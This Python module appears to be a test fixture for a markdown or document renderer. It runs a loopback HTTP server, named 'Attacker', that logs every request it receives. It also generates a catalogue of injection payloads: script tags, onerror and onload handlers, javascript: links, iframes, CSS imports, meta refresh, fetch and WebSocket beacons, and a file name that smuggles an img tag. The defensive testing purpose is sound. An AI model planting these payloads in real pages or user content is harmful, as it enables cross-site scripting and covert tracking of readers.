"""A host that documents try to reach: a server on loopback that counts who asks it, and the ways to make a page ask."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# A 1 x 1 picture, so that whatever loads it is content.
_PICTURE = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


class Attacker:
    """hits: the paths that were asked for, WebSockets too."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def _count(self) -> None:
                attacker.hits.append(self.path)
                with contextlib.suppress(ConnectionError):
                    self.send_response(200)
                    self.send_header("Access-Control-Allow-Origin", "*")
                    self.send_header("Content-Type", "image/gif")
                    self.end_headers()
                    self.wfile.write(_PICTURE)

            do_GET = do_HEAD = do_POST = do_PUT = do_OPTIONS = _count

            def log_message(self, *_: object) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.host = f"127.0.0.1:{self.server.server_address[1]}"

    def payloads(self, place: str) -> list[str]:
        """One line each, with the place's name in the path: markup that loads, runs or leads somewhere where it is
        taken for markup."""
        at, run = f"{self.host}/{place}", f"window.hit='{place}';new Image().src='//{self.host}/{place}-ran'"
        return [
            f"![a](http://{at}-markdown.png)", f"![b][r-{place}] [r-{place}]: http://{at}-reference.png",
            f"[c](javascript:{run}) <a href=\"javascript:{run}\">d</a> [e](http://{at}-link)",
            f"<img src=http://{at}-image.png onerror=\"{run}\"> <img src=x onerror=\"{run}\">",
            f"<script>{run}</script> <script src=http://{at}.js></script>",
            f"<iframe src=http://{at}-frame></iframe> <object data=http://{at}-object></object>",
            f"<style>@import 'http://{at}.css'; * {{ background: url(http://{at}-style.png) }}</style>",
            f"<link rel=stylesheet href=http://{at}-sheet.css> <link rel=prefetch href=http://{at}-prefetch>",
            f"<svg onload=\"{run}\"><image href=http://{at}-svg.png /><use href=http://{at}-use.svg#a /></svg>",
            f"<video poster=http://{at}-poster.png src=http://{at}-video autoplay></video>",
            f"<meta http-equiv=refresh content='0;url=http://{at}-refresh'><base href=http://{at}-base>",
            f"<script>new WebSocket('ws://{at}-socket'); fetch('http://{at}-fetch'); {run}</script>",
            f"$\\includegraphics{{http://{at}-formula.png}}$ $\\href{{javascript:{run}}}{{f}}$",
            f":material/{place}: :red[g] :blue-badge[![h](http://{at}-badge.png)]",
            f"http://{at}-bare <http://{at}-angle> www.{self.host}/{place}",
        ]

    def name(self, place: str) -> str:
        """A file's name that would ask: no slash can stand in it, and browsers take a backslash for one."""
        return f"<img src=http:\\\\{self.host}\\{place}.png onerror=window.hit=1>![a](http:\\\\{self.host}\\{place}-m)"


@contextlib.contextmanager
def listening() -> Iterator[Attacker]:
    attacker = Attacker()
    thread = threading.Thread(target=attacker.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield attacker
    finally:
        attacker.server.shutdown()
        attacker.server.server_close()
        thread.join()
